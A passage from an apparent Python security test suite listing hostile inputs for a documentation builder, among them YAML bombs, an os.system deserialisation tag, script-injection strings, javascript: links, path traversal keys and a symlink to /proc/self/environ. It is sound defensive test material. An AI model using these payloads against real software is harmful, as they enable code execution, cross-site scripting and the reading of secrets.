        "source-other-edition": "sources:\n  - {file: ../2019/source.txt}",
        "source-long": f"sources:\n  - {{file: {'x' * 5_000}.txt}}",
        "yaml-bomb": "a: &a [MARK, MARK, MARK, MARK, MARK, MARK, MARK, MARK, MARK]\n"
        + "\n".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefghi", "bcdefghij", strict=True))
        + "\nsilent_on: *j",
        "yaml-self": "silent_on: &a [*a, MARK]",
        "yaml-merge-self": "host: &a {<<: *a, name: MARK}",
        "yaml-python": "title: !!python/object/apply:os.system ['echo MARK']",
        "yaml-python-name": "title: !!python/name:os.environ MARK",
        "yaml-tag": "title: !<tag:evil.example,2021:MARK> words",
        "yaml-binary": "title: !!binary TUFSSw==",
        "yaml-deep": f"silent_on: {'[' * 3_000}MARK{']' * 3_000}",
        "yaml-broken": "title: [MARK",
        "yaml-tab": "title:\n\t- MARK",
        "yaml-documents": "title: TideComp\n--- \ntitle: MARK\n...",
        "yaml-directive": "%TAG ! tag:evil.example,2021:\ntitle: MARK",
        "yaml-complex-key": "? [MARK, {a: b}]\n: 1",
        "yaml-alias-unknown": "title: *MARK",
        "yaml-twice": "place: Ebbville\nplace: MARK",
        "yaml-null-key": "~: MARK",
        "yaml-float": "title: 1.0e+999999999",
        "yaml-sexagesimal": f"ordinal: {'59:' * 2_000}59",
    }.items()
)  # fmt: skip


# -- Files of the archive ----------------------------------------------------------------------------------------------

_SERIES_TEXT: dict[str, str] = {
    "name": 'name: "HERE"',
    "short-name": 'short_name: "HERE"',
    "about": 'about: "HERE"',
    "list-label": 'lists:\n  - {name: areas, label: "HERE"}',
    "gap-note": 'missing_calls:\n  - {key: "2020", note: "HERE"}',
    "gap-host": 'missing_calls:\n  - {key: "2020", host: {name: "HERE", place: "HERE"}}',
    "gap-link": 'missing_calls:\n  - {key: "2020", links: [{label: "HERE", url: "https://tidecomp.example/"}]}',
    "notes": 'notes: ["HERE"]',
}
_SERIES = tuple(
    Payload(
        name=f"series-{name}{suffix}",
        series=series.replace("HERE", text) + "\n",
        expected=Expected.TEXT,
    )
    for name, series in _SERIES_TEXT.items()
    for suffix, text in (("", _X), ("-breaking", _BREAKS))
)
_SERIES_REFUSED = tuple(
    Payload(name=f"series-{name}", series=series + "\n")
    for name, series in {
        "home-javascript": 'home: "javascript:MARK"',
        "link-javascript": 'missing_calls:\n  - {key: "2020", links: [{label: words, url: "javascript:MARK"}]}',
        "gap-key": 'missing_calls:\n  - {key: "../../outside/MARK"}',
        "gap-key-markup": 'missing_calls:\n  - {key: "<img src=x onerror=alert(MARK)>"}',
        "name-bidi": 'name: "Tide \\u202EMARK"',
        "short-name-control": 'short_name: "Tide\\eMARK"',
        "label-zero-width": 'lists:\n  - {name: areas, label: "Areas\\u200B MARK"}',
    }.items()
)
_OTHER_FILES = (
    Payload(name="people-name", people=f'- {{key: bo-finn, name: "{_X}"}}\n', expected=Expected.TEXT),
    Payload(
        name="people-name-breaking",
        people=f'- {{key: bo-finn, name: "{_BREAKS}"}}\n',
        expected=Expected.TEXT,
    ),
    Payload(name="people-name-bidi", people='- {key: bo-finn, name: "Bo \\u202EMARK"}\n'),
    Payload(name="people-home", people='- {key: bo-finn, name: Bo Finn, home: "javascript:MARK"}\n'),
    Payload(name="people-key", people='- {key: "../../outside", name: Bo MARK}\n'),
    Payload(name="people-key-markup", people='- {key: "<img src=x onerror=alert(1)>", name: MARK}\n'),
    Payload(name="people-orcid", people='- {key: bo-finn, name: Bo, orcid: "javascript:MARK"}\n'),
    Payload(
        name="decisions-reason",
        decisions='- {list: areas, old_edition: "2019", new_edition: "2021", old: [Moon-aware storage],\n'
        '   new: [Moon-aware storage and caching], outcome: not the same, decided: 2021-01-02,\n'
        f'   by: "{_X}", reason: "{_X}"}}\n',
        expected=Expected.TEXT,
    ),
    Payload(name="topics-key", topics='- {key: "../../MARK", list: areas, edition: "2019", text: Tidal scheduling}\n'),
)  # fmt: skip


def _replaced_by_link(name: str, to: str = "") -> Files:
    def files(folder: Path, outside: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(to or outside)

    return files


def _written(name: str, text: str) -> Files:
    def files(folder: Path, outside: Path) -> None:
        write(folder / name, text)

    return files


def _bytes(content: bytes) -> Files:
    def files(folder: Path, outside: Path) -> None:
        (folder / "more.md").write_bytes(content)

    return files


def _folder_as_page(folder: Path, outside: Path) -> None:
    (folder / "index.md").unlink()
    (folder / "index.md").mkdir()


def _folder_link(folder: Path, outside: Path) -> None:
    write(outside.parent / "index.md", f"---\ntitle: {SECRET}\n---\n\n# {SECRET}\n")
    (folder.parent / f"{folder.name}-linked").symlink_to(outside.parent, target_is_directory=True)


def _loop(folder: Path, outside: Path) -> None:
    (folder.parent / f"{folder.name}-loop").symlink_to(folder.parent, target_is_directory=True)


def _series_link(folder: Path, outside: Path) -> None:
    file = folder.parent / "series.yaml"
    write(outside.parent / "series.yaml", file.read_text(encoding="utf-8") + f"about: {SECRET}\n")
    file.unlink()
    file.symlink_to(outside.parent / "series.yaml")


def _not_utf8(name: bytes) -> Files:
    def files(folder: Path, outside: Path) -> None:
        path = os.fsencode(folder) + b"/" + name
        try:
            with open(path, "wb") as file:  # noqa: PTH123
                file.write(b"# MARK\n")
        except OSError:  # some systems have no such names, and nobody can send them there
            write(folder / "no such name.md", "# words\n")

    return files


def _not_utf8_folder(folder: Path, outside: Path) -> None:
    try:
        os.mkdir(os.fsencode(folder.parent) + b"/20\xff21")  # noqa: PTH102
    except OSError:
        (folder.parent / "no key").mkdir()


_ACTIVE = "<!DOCTYPE html><html><script>alert('alivefileMARK')</script><body>words</body></html>\n"
_ACTIVE_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\n'
_SOURCES = "sources:\n  - {file: source.txt}\n  - {file: NAME}\n"
_FILES = (
    Payload(name="link-page", page="# words", files=_replaced_by_link("more.md")),
    Payload(name="link-index", files=_replaced_by_link("index.md")),
    Payload(name="link-source", front="", files=_replaced_by_link("source.txt")),
    Payload(name="link-picture", body="![words](shore.png)", source="", files=_replaced_by_link("shore.png")),
    Payload(name="link-dangling", page="# words", files=_replaced_by_link("more.md", "nowhere.md")),
    Payload(name="link-self", page="# words", files=_replaced_by_link("more.md", "more.md")),
    Payload(name="link-inside", page="# words", files=_replaced_by_link("more.md", "source.txt")),
    Payload(name="link-environment", files=_replaced_by_link("source.txt", "/proc/self/environ")),
    Payload(name="link-folder", files=_folder_link),
    Payload(name="link-loop", files=_loop),
    Payload(name="link-series", files=_series_link),
    Payload(name="name-not-utf8-page", files=_not_utf8(b"caf\xe9.md")),
    Payload(name="name-not-utf8-folder", files=_not_utf8_folder),
    Payload(name="name-markup", files=_written("<img src=x onerror=alert(1)>.md", "# words\n")),
    Payload(name="name-control", files=_written("a\x1b[31m\nb.md", "# words\n")),
    Payload(name="name-script", files=_written("x'+alert('alivenamescript')+'.md", "# words\n")),
    Payload(name="name-quotes", files=_written('x" onclick="alert(1).md', "# words\n")),
    Payload(name="name-bidi", files=_written("a\u202eb.md", "# words\n")),
    Payload(name="bytes-not-utf8", page="# words", files=_bytes(b"# \xff\xfe MARK\n")),
    Payload(name="bytes-null", page="# words", files=_bytes(b"# MARK \x00\n")),
    Payload(name="folder-as-page", files=_folder_as_page),
    Payload(name="picture-not-one", body="![words](shore.png)", source="", files=_written("shore.png", _ACTIVE)),
    Payload(name="picture-svg", body="![words](shore.svg)", source="", files=_written("shore.svg", _ACTIVE_SVG)),
    *(
        Payload(
            name=f"source-{suffix}",
            front=_SOURCES.replace("NAME", f"call.{suffix}"),
            files=_written(f"call.{suffix}", _ACTIVE_SVG if suffix in {"svg", "xml"} else _ACTIVE),
            expected=Expected.TEXT,
        )
        for suffix in ("html", "htm", "xhtml", "svg", "xml", "js", "css", "pdf", "swf", "mhtml", "HTML")
    ),
    Payload(
        name="source-name-markup",
        front="sources:\n  - {file: source.txt}\n  - {file: \"<img src=x onerror=alert('MARK')>.txt\"}\n",
        files=_written("<img src=x onerror=alert('alivesourcenamemarkup')>.txt", "words\n"),
        expected=Expected.TEXT,
    ),
    *(
        Payload(name=f"page-{name}", page=f"# More\n\n{body}\n")
        for name, body in {
            "script": _SCRIPT,
            "raw": _DIRECTIVES["raw"],
            "include": _DIRECTIVES["include"],
            "javascript": _LINKS["javascript"],
            "download": _ROLES["download"],
        }.items()
    ),
    Payload(name="page-front-matter", page="---\nmyst:\n  enable_extensions: [html_image]\n---\n\n# More MARK\n"),
    Payload(name="page-front-matter-meta", page="---\nhtml_meta:\n  refresh: MARK\n---\n\n# More\n"),
    Payload(name="page-title", page="# C++ and `<img src=x onerror=alert('MARK')>` \\<T>\n", expected=Expected.TEXT),
)  # fmt: skip

#: Words that are fine in themselves, beside one that the source does not have: the proof's part. A link whose address the source
#: does not show is no payload: it is marked as the archive's, see tests/sphinx/test_proving.py.
_UNPROVEN = (
    Payload(name="proof-word", body="See the MARK call.", source="See the call."),
    Payload(name="proof-comment", body="See the call.", source="See the call. MARK is left out."),
    Payload(name="proof-user", body="See <https://tidecomp.example@evil.example/MARK>.", source="See."),
    Payload(
        name="proof-entity",
        body="Submit by &#77;ay 1, &#x4D;ARK.",
        source="Submit by April 1.",
    ),
)

PAYLOADS: tuple[Payload, ...] = (
    *_bodies("html", _HTML),
    *_bodies("directive", _DIRECTIVES),
    *_bodies("role", _ROLES),
    *_bodies("link", _LINKS),
    *_bodies("syntax", _SYNTAX),
    *(Payload(name=one.name, body=one.body, expected=Expected.TEXT) for one in _WORDS),
    *_BOUNDS,
    *_UNICODE,
    *_FACTS,
    *_FACTS_REFUSED,
    *_SERIES,
    *_SERIES_REFUSED,
    *_OTHER_FILES,
    *_FILES,
    *_UNPROVEN,
)
BY_NAME: dict[str, Payload] = {one.name: one for one in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "two payloads have one name"
